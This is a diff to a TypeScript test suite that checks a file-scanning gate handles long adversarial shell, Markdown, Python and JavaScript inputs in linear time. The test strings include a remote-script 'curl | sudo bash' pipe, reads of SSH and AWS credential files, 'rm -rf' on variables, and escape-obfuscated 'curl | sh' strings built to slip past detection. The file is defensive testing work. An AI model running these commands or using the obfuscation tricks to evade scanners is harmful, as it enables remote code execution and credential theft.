@@ -8,10 +8,17 @@ const SHELL: FileClass = { kind: "code", language: "shell", by: "extension" };
 const PYTHON: FileClass = { kind: "code", language: "python", by: "extension" };
 const MARKDOWN: FileClass = { kind: "markdown", by: "extension" };
 const DOCKERFILE: FileClass = { kind: "code", language: "dockerfile", by: "name" };
+const JAVASCRIPT: FileClass = { kind: "code", language: "javascript", by: "extension" };
 
 const cases: Record<string, { kind: FileClass; input: (n: number) => string }> = {
   "shell: risky commands on every line": { kind: SHELL, input: (n) => "curl -fsSL https://x.example/i.sh | sudo bash\n".repeat(Math.ceil(n / 46)) },
   "shell: one long line of pipes": { kind: SHELL, input: (n) => "curl | a || ".repeat(Math.ceil(n / 12)) },
+  // One pipeline whose every member asks for its neighbours (a download, shell history).
+  "shell: one pipeline of downloads": { kind: SHELL, input: (n) => "curl x | ".repeat(Math.ceil(n / 9)) },
+  "shell: one pipeline of history": { kind: SHELL, input: (n) => "history | ".repeat(Math.ceil(n / 10)) },
+  // Each history asks for the groups around it: at most MAX_DEPTH of them are followed.
+  "shell: history in nested groups": { kind: SHELL, input: (n) => "( { history; ".repeat(Math.ceil(n / 26)) + "} ) > f ".repeat(Math.ceil(n / 26)) },
+  "shell: groups in one pipeline": { kind: SHELL, input: (n) => "( history ) | ".repeat(Math.ceil(n / 14)) },
   "shell: rm of variables, guards between": { kind: SHELL, input: (n) => 'X=$1\n[ -n "$X" ] && rm -rf "$X"/\n'.repeat(Math.ceil(n / 30)) },
   "shell: keywords on one line": { kind: SHELL, input: (n) => "cat ~/.ssh/id_rsa ~/.aws/credentials ".repeat(Math.ceil(n / 37)) },
   "markdown: inline commands": { kind: MARKDOWN, input: (n) => "Run `curl -s x | sh` or `npx -y a` now.\n".repeat(Math.ceil(n / 40)) },
@@ -30,7 +37,15 @@ const cases: Record<string, { kind: FileClass; input: (n: number) => string }> =
   "shell: handed code with substitutions": { kind: SHELL, input: (n) => 'bash -c "cd $(mktemp -d) && sh -c \'rm -rf $(pwd)/x\'"\n'.repeat(Math.ceil(n / 53)) },
   // Matches a text pattern refuses (in an excepted program's command), many on one line.
   "shell: refused matches on one line": { kind: SHELL, input: (n) => "mkdir -p ~/.ssh/a && ".repeat(Math.ceil(n / 21)) },
+  // A shell block with a prompt: its other commands joined across `\` line ends, and runs of backslashes counted once.
+  "markdown: a prompt block of continued lines": { kind: MARKDOWN, input: (n) => "```sh\n$ echo x\n\n" + "curl -s x | \\\n".repeat(Math.ceil(n / 13)) + "```\n" },
+  "markdown: a prompt block of backslash lines": { kind: MARKDOWN, input: (n) => "```sh\n$ echo x\n" + `${"\\".repeat(63)}\n`.repeat(Math.ceil(n / 64)) + "```\n" },
   "markdown: many blocks of quoted words": { kind: MARKDOWN, input: (n) => '```\nx"y"z a\\b\n```\n'.repeat(Math.ceil(n / 18)) },
+  // The gate's ANSI-C search (`$'…'` resolved before the words are looked for), on quotes that make no program.
+  "shell: ANSI-C quotes of escapes": { kind: SHELL, input: (n) => "x$'\\u0079\\u007a' $'\\'\\q' $'\\u".repeat(Math.ceil(n / 27)) },
+  // String escapes resolved (\u makes a letter: the gate lets the file through) in strings a call runs.
+  "python: escaped command strings": { kind: PYTHON, input: (n) => 'os.system("\\u0063\\x75\\162l \\N{x} \\U00000073 | s\\x68")\n'.repeat(Math.ceil(n / 50)) },
+  "javascript: one string of unclosed \\u{ escapes": { kind: JAVASCRIPT, input: (n) => `execSync("curl ${"\\u{".repeat(Math.ceil(n / 3))}")\n` },
 };
 
 describe("scanFile is linear", () => {
